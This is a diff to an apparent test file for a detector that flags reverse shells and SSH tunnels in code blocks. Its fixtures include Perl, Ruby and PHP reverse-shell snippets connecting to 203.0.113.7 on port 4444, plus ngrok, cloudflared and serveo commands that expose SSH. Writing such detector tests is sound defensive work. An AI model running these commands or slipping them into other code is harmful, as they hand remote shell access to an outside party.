@@ -30,6 +30,56 @@ describe("a shell whose input and output are a connection", () => {
   });
 });
 
+const code = (tag: string, text: string) => `\`\`\`${tag}\n${text}\n\`\`\``;
+
+describe("a connection that runs a shell in", () => {
+  test.each([
+    [
+      "Perl",
+      code(
+        "perl",
+        'socket(S, 2, 1, 6);\nconnect(S, $a);\nopen(STDIN, ">&S");\nexec("/bin/sh -i");',
+      ),
+    ],
+    [
+      "Perl, with a module",
+      code("perl", 'my $s = IO::Socket::INET->new("203.0.113.7:4444");\nsystem("bash -i");'),
+    ],
+    ["Ruby", code("ruby", 's = TCPSocket.new("203.0.113.7", 4444)\nexec "sh", in: s')],
+    [
+      "Ruby, by commands",
+      code(
+        "ruby",
+        'c = TCPSocket.open("203.0.113.7", 4444)\nwhile l = c.gets\n  c.print IO.popen(l).read\nend',
+      ),
+    ],
+    ["Ruby, in backticks", code("ruby", "c = TCPSocket.new(h, 1)\nl = c.recv(9)\nc.print `#{l}`")],
+    ["PHP", code("php", '$s = fsockopen("203.0.113.7", 4444);\nexec("sh <&3 >&3");')],
+    ["PHP, by commands", code("php", "$s = fsockopen($h, 1);\n$l = fgets($s);\nshell_exec($l);")],
+  ])("%s", (_name, text) => {
+    expect(seenIn(text)).toHaveLength(1);
+  });
+
+  test.each([
+    ["Ruby that asks a server", code("ruby", 'c = TCPSocket.new("203.0.113.7", 80)\nputs c.gets')],
+    ["PHP that tries a port", code("php", '$s = fsockopen("203.0.113.7", 80);\nfclose($s);')],
+    [
+      "Perl that asks a server",
+      code("perl", "socket(S, 2, 1, 6);\nconnect(S, $a);\nprint <S>; # sh"),
+    ],
+    ["a sentence", "TCPSocket.new(h, 1) and then exec sh is a shell."],
+  ])("nothing is said of %s", (_name, text) => {
+    expect(seenIn(text)).toEqual([]);
+  });
+});
+
+test("a tunnel to the SSH server is one, a tunnel to a page is none", () => {
+  expect(seenIn(block("ngrok tcp 22"))).toHaveLength(1);
+  expect(seenIn(block("cloudflared tunnel --url ssh://127.0.0.1:22"))).toHaveLength(1);
+  expect(seenIn(block("ssh -R 8080:[::1]:22 a@serveo.net"))).toHaveLength(1);
+  expect(seenIn(block("ngrok http 2200", "ssh -L 22:localhost:22 a@b"))).toEqual([]);
+});
+
 describe("silent:", () => {
   test.each([
     ["a shell that writes a log", block("nc -z 203.0.113.7 22", "bash -i > session.log")],
